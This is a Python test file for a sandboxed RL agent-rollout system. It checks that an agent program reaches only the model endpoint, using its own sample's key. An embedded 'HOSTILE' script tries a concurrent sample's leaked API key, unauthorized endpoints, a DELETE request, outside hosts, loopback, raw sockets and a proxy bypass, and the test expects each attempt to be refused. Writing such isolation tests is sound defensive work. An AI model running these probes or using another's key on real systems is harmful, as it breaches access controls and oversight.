"""An agent program inside a sandbox: it reaches the model with its sample's key, and nothing else."""

import asyncio
import json
import socket
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

import envs.registry
import envs.scaffolds
from envs.agents import MODEL, ProcessAgent
from envs.check import check_environment
from envs.types import Boundary, Score, Task
from rl.rollout.config import RolloutConfig
from rl.rollout.sandboxes import FleetSandboxes, lasting, stateless
from rl.rollout.wal import TokenLog
from rl.rollout.worker import Worker
from rl.serve.agents import AgentDoor
from rl.serve.taps import Taps
from sandbox.client import Fleet
from sandbox.policy import Network, Rule
from sandbox.types import SandboxSpec
from tests.rl.rollout.scripted import CHAT, ScriptedEngine, ids
from tests.rl.serve.agent_samples import assignment, environment

BACKENDS = ["bubblewrap", pytest.param("docker", marks=[pytest.mark.docker, pytest.mark.slow])]

PROGRAM = """
import json, os, sys, urllib.request
task = json.load(sys.stdin)
body = {"model": os.environ["OPENAI_MODEL"], "messages": task["messages"]}
for _ in range(2):
    request = urllib.request.Request(
        os.environ["OPENAI_BASE_URL"] + "/chat/completions",
        json.dumps(body).encode(),
        {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"},
    )
    answer = json.load(urllib.request.urlopen(request))["choices"][0]["message"]
    body["messages"] += [answer, {"role": "user", "content": "1"}]
print(answer["content"])
"""

HOSTILE = """
import json, os, socket, sys, urllib.error, urllib.request
base, key = os.environ["OPENAI_BASE_URL"], os.environ["OPENAI_API_KEY"]
other, host_port = os.environ["OTHER_KEY"], int(os.environ["HOST_PORT"])
body = {"model": os.environ["OPENAI_MODEL"], "messages": json.load(sys.stdin)["messages"]}
seen = {}

def ask(name, url, key=key, body=body, method="POST"):
    data = json.dumps(body).encode() if body else None
    headers = {"Authorization": "Bearer " + key, "Content-Type": "application/json"}
    try:
        request = urllib.request.Request(url, data, headers, method=method)
        seen[name] = str(urllib.request.urlopen(request, timeout=60).status)
    except urllib.error.HTTPError as error:
        seen[name] = f"{error.code} {error.headers.get('X-Tempering-Denied') or ''}".strip()
    except urllib.error.URLError:
        seen[name] = "refused"

def dial(name, *address):
    try:
        socket.create_connection(address, timeout=5).close()
        seen[name] = "reached"
    except OSError:
        seen[name] = "nothing"

origin = base.removesuffix("/v1")
ask("another's key", base + "/chat/completions", other)
ask("no key", base + "/chat/completions", "")
ask("models", base + "/models", body=None, method="GET")
ask("metrics", origin + "/metrics", body=None, method="GET")
ask("health", origin + "/health", body=None, method="GET")
ask("delete", base + "/models", method="DELETE")
ask("elsewhere", "http://example.com/")
ask("loopback", f"http://127.0.0.1:{host_port}/v1/models")
ask("by address", "http://192.0.2.1/v1/models")
ask("port", origin + ":8080/v1/models", body=None, method="GET")
os.environ.clear()
dial("host", "127.0.0.1", host_port)
dial("network", "192.0.2.1", 80)
dial("name", origin.removeprefix("http://"), 80)
opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": "http://127.0.0.1:3128"}))
urllib.request.install_opener(opener)
ask("own key", base + "/chat/completions")
print(json.dumps(seen))
"""


@pytest.fixture(scope="module")
def state_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("node")


@asynccontextmanager
async def worker(
    agent: Any, state: Path, backend: str, *turns: str, log: TokenLog | None = None
) -> AsyncIterator[Worker]:
    """A worker whose policy says these turns in order, with a fleet of real sandboxes."""
    left = [ids(turn) for turn in turns]
    taps = Taps(log.on_step if log else None)
    engine = ScriptedEngine(lambda request: left.pop(0), taps.on_step)
    config = RolloutConfig(deadline_s=300.0, max_total_tokens=128)
    env = agent if hasattr(agent, "tasks") else environment(agent)
    async with AsyncExitStack() as stack:
        fleet = await stack.enter_async_context(
            await Fleet.connect(state_dir=state, owner="agents", backend=backend, lease_s=600.0)
        )
        stack.push_async_callback(fleet.close, release=log is None)
        boxes = FleetSandboxes(lasting(fleet), env.sandbox, 1, 600.0) if env.sandbox else None
        door = AgentDoor(engine, taps, CHAT, config.max_total_tokens, stack)
        scaffold = envs.scaffolds.load("external")
        yield Worker(env, scaffold, engine, CHAT, boxes, None, log, config, door=door)


@pytest.mark.parametrize("backend", BACKENDS)
async def test_the_same_program_gives_the_same_sample_on_the_host_and_in_a_sandbox(
    backend: str, state_dir: Path, tmp_path: Path
):
    (tmp_path / "agent.py").write_text(PROGRAM)
    made = []
    for where in ("host", "sandbox"):
        agent = ProcessAgent(["python3", "agent.py"], cwd=str(tmp_path), where=where)
        async with worker(agent, state_dir, backend, "<answer>5<end>", "<answer>4042<end>") as held:
            made.append(await held.run(assignment()))
    host, sandbox = made
    assert sandbox.score == Score(1.0, {"right": 1.0})
    assert [[turn.prompt_ids, turn.completion_ids] for turn in host.turns] == [
        [turn.prompt_ids, turn.completion_ids] for turn in sandbox.turns
    ]
    assert len(sandbox.branches) == 1 and len(sandbox.turns) == 2


@dataclass(frozen=True, slots=True)
class Curious(ProcessAgent):
    """Knows the key of the other sample, which runs at the same time."""

    async def run(self, task: Task, access: Any, sandbox: Any) -> str:
        mine, others = asyncio.current_task(), ACCESS
        others[mine] = access
        async with asyncio.timeout(120):
            while len(others) < 2:  # noqa: ASYNC110
                await asyncio.sleep(0.01)
        other = next(held for task, held in others.items() if task is not mine)
        env = {"OTHER_KEY": other.api_key, "HOST_PORT": str(PORT[0])}
        program = ProcessAgent(self.command, env=env, where="sandbox")
        RESULTS.append(await program.run(task, access, sandbox))
        return "4042"


ACCESS: dict[Any, Any] = {}
RESULTS: list[str] = []
PORT: list[int] = []


@pytest.mark.parametrize("backend", BACKENDS)
async def test_nothing_else_is_reached_and_another_samples_key_is_refused(backend: str, state_dir: Path):
    for held in (ACCESS, RESULTS, PORT):
        held.clear()
    agent = Curious(["python3", "-c", HOSTILE], where="sandbox")
    with socket.create_server(("127.0.0.1", 0)) as listening:
        PORT.append(listening.getsockname()[1])
        async with worker(agent, state_dir, backend, "<answer>4042<end>", "<answer>4042<end>") as held:
            done = await asyncio.gather(held.run(assignment(0)), held.run(assignment(1)))
    keys = {access.api_key for access in ACCESS.values()}
    assert len(keys) == 2 and len({access.base_url for access in ACCESS.values()}) == 1
    for result in RESULTS:
        assert json.loads(result) == {
            "another's key": "401", "no key": "401", "models": "200", "metrics": "404", "health": "404",
            "delete": "403 method", "elsewhere": "403 host", "loopback": "refused",
            "by address": "403 address", "port": "403 port", "host": "nothing", "network": "nothing",
            "name": "nothing", "own key": "200",
        }  # fmt: skip
    assert [len(trajectory.turns) for trajectory in done] == [1, 1], "each was asked with its own key alone"
    assert not list((state_dir / "owners").iterdir()), "what served the samples is gone with them"


async def test_an_interrupted_program_in_a_sandbox_goes_on_with_the_turns_of_its_log(
    state_dir: Path, tmp_path: Path
):
    agent = ProcessAgent(["python3", "-c", PROGRAM], where="sandbox")
    turns = ("<answer>5<end>", "<answer>4042<end>")
    log = TokenLog(tmp_path, flush_ms=0)
    async with worker(agent, state_dir, "bubblewrap", *turns, log=log) as held:
        held._engine._step_s = 0.002
        running = asyncio.create_task(held.run(assignment()))
        async with asyncio.timeout(120):
            while len(held._engine.requests) < 2:
                assert not running.done(), running.result()
                await asyncio.sleep(0.001)
        await held._engine.pause()
        running.cancel()
        await asyncio.gather(running, return_exceptions=True)
    log.close()

    again = TokenLog(tmp_path, flush_ms=0)
    (logged,) = again.recovery.unfinished.values()
    async with worker(agent, state_dir, "bubblewrap", turns[1], log=again) as held:
        trajectory = await held.run(assignment(), logged)
    again.close()
    assert trajectory.score == Score(1.0, {"right": 1.0}), trajectory.error
    assert [turn.completion_ids for turn in trajectory.turns] == [tuple(ids(turn)) for turn in turns]
    assert len(held._engine.requests) == 1


async def test_the_example_is_sound_and_runs_what_the_model_writes_in_its_sandbox(state_dir: Path):
    env = envs.registry.load(str(Path(__file__).parents[3] / "examples/inside.py"))
    report = await check_environment(env, 5)
    assert report.passed, str(report)
    task = next(env.tasks("train", 0))
    question, gold = task.prompt[0].content.removesuffix("="), task.gold
    turns = (f"<call>{question}</call>", f"<answer>{gold}<end>")
    async with worker(env, state_dir, "bubblewrap", *turns) as held:
        trajectory = await held.run(replace(assignment(), task=task))
    assert trajectory.score == Score(1.0, {"right": 1.0}), trajectory.error
    assert trajectory.turns[1].prompt_ids == tuple(ids(f"<obs>{gold}</obs>"))


@pytest.mark.parametrize(
    ("program", "says"),
    [
        ("raise SystemExit('broken')", "exit code 1: broken"),
        ("print(4042)", "without asking the model"),
        ("import os, signal; os.kill(os.getpid(), signal.SIGKILL)", "exit code 137"),
    ],
)
async def test_a_program_that_fails_in_its_sandbox_gives_no_verdict(program: str, says: str, state_dir: Path):
    async with worker(
        ProcessAgent(["python3", "-c", program], where="sandbox"), state_dir, "bubblewrap"
    ) as w:
        trajectory = await w.run(assignment())
    assert trajectory.error is not None and says in trajectory.error.message
    assert trajectory.error.boundary is Boundary.SCAFFOLD


def test_a_program_in_a_sandbox_gets_one_that_reaches_the_model():
    agent = ProcessAgent(["python3", "a.py"], where="sandbox")
    env = environment(agent)
    assert env.sandbox.network == Network({"solve": (MODEL,)}, "solve") and not stateless(env)
    assert environment(ProcessAgent(["python3", "a.py"])).sandbox is None
    phases = Network({"setup": (Rule(registry="pypi"),), "solve": (MODEL,)}, "setup")
    assert environment(agent, SandboxSpec(network=phases)).sandbox.network == phases
    with pytest.raises(ValueError, match=r"envs\.agents\.MODEL"):
        environment(agent, SandboxSpec(network=Network({"solve": ()}, "solve")))


def test_a_mistaken_program_is_refused_when_it_is_written():
    with pytest.raises(ValueError, match="host or sandbox"):
        ProcessAgent(["python3"], where="sandbx")  # pyright: ignore[reportArgumentType]
    with pytest.raises(ValueError, match="is a list"):
        ProcessAgent("python3 a.py")
